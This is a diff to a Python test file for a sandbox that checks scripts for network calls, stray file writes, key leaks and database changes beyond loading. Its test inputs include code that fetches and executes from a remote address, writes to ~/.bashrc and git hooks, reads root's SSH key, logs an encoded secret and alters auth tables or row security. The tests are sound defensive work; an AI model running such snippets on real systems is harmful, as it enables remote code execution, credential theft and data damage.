@@ -100,9 +100,18 @@ def test_a_script_that_does_not_end_is_stopped(sandbox: Sandbox, tmp_path: Path)
          ("tried to reach evil.example",)),
         ("exec(urllib.request.urlopen('http://1.2.3.4/x').read())", ("tried to reach 1.2.3.4:80",)),
         ("socket.create_connection(('5.6.7.8', 25), 2)", ("tried to reach 5.6.7.8:25",)),
+        ("socket.create_connection(('203.0.113.9', 443), 1)",
+         ("tried to reach 203.0.113.9:443",)),
+        ("import smtplib; smtplib.SMTP('127.0.0.1', timeout=1)", ("tried to reach 127.0.0.1:25",)),
         ("subprocess.Popen(['sleep', '61'], start_new_session=True)", ("left `sleep 61` running",)),
         ("os.kill(os.getppid(), 9)", ()),
-        ("open('/opt/evil', 'w')", ()),
+        ("open('/opt/evil', 'w')", ("wrote to /opt/evil, outside of its folder",)),
+        ("open('/tmp/evil', 'w')", ("wrote to /tmp/evil, outside of its folder",)),
+        ("open(os.path.expanduser('~/.bashrc'), 'a')",
+         ("wrote to ~/.bashrc, outside of its folder",)),
+        ("os.makedirs('.git/hooks'); open('.git/hooks/x', 'w')", ("made the file .git/hooks/x",)),
+        ("open(__file__, 'a').write('1')", ("changed the file s.py",)),
+        ("open('own.csv', 'w').write('x')", ()),
         ("print(open(os.path.expanduser('~root') + '/.ssh/id').read())", ()),
         ("open('own.txt', 'w').write('x'); tempfile.mkstemp(); multiprocessing.Lock()", ()),
     ],
@@ -124,8 +133,50 @@ def test_a_script_that_prints_its_key_has_failed(sandbox: Sandbox, tmp_path: Pat
     with Services() as services, scratch(services).database() as database:
         text = "import os\nprint(os.environ['SUPABASE_SERVICE_ROLE_KEY'])"
         ended = run(sandbox, tmp_path, text, database=database).run
+        text = "import base64, os\nkey = os.environ['DATABASE_URL'].encode()\n"
+        text += "open('run.log', 'wb').write(base64.b64encode(key))"
+        logged = run(sandbox, tmp_path, text, database=database).run
     assert ended.tried == ("printed the key that it was given",)
     assert not ended.ok
+    assert logged.tried == ("wrote a key that it was given to run.log",)
+
+
+_BEYOND = """
+import os, psycopg
+with psycopg.connect(os.environ["DATABASE_URL"]) as c:
+    c.execute("INSERT INTO t (name) VALUES ('a') ON CONFLICT (name) DO UPDATE SET name = 'a'")
+    c.execute("CREATE TEMP TABLE staging (a text); DELETE FROM staging; DROP TABLE staging")
+    c.execute("DELETE FROM t WHERE name = 'a'; INSERT INTO t (name) VALUES ('a')")
+    {}
+"""
+
+
+@pytest.mark.parametrize(
+    ("also", "told"),
+    [
+        ("pass", ""),
+        ("c.execute('UPDATE auth.users SET email = NULL')", "it writes to auth.users: UPDATE"),
+        ("c.execute('DELETE FROM t WHERE at < now() - %s::interval', ['1 h'])",
+         "it deletes from public.t what the trial does not have: DELETE"),
+        ("c.execute('ALTER TABLE t DISABLE ROW LEVEL SECURITY; '"
+         " 'ALTER TABLE t ENABLE ROW LEVEL SECURITY')", "it changes the schema, ALTER TABLE"),
+        ("c.execute('GRANT SELECT ON t TO anon; TRUNCATE u')", "GRANT TABLE: GRANT"),
+    ],
+)  # fmt: skip
+def test_statements_beyond_loading_are_told_though_they_meet_no_row(
+    tmp_path: Path, also: str, told: str
+) -> None:
+    (tmp_path / "s.py").write_text(_BEYOND.format(also), encoding="utf-8")
+    schema = [
+        "CREATE TABLE t (name text UNIQUE, at timestamptz DEFAULT now()); CREATE TABLE u (a text);"
+    ]
+    with Services() as services:
+        tried = run_idempotency_trial(
+            services, tmp_path, "s.py", schema=schema, libraries=["psycopg"]
+        )
+    assert tried.first.run.ok
+    assert told in " ".join(tried.differing)
+    assert bool(told) is bool(tried.differing)
 
 
 def test_waiting_takes_no_time(sandbox: Sandbox, tmp_path: Path) -> None:
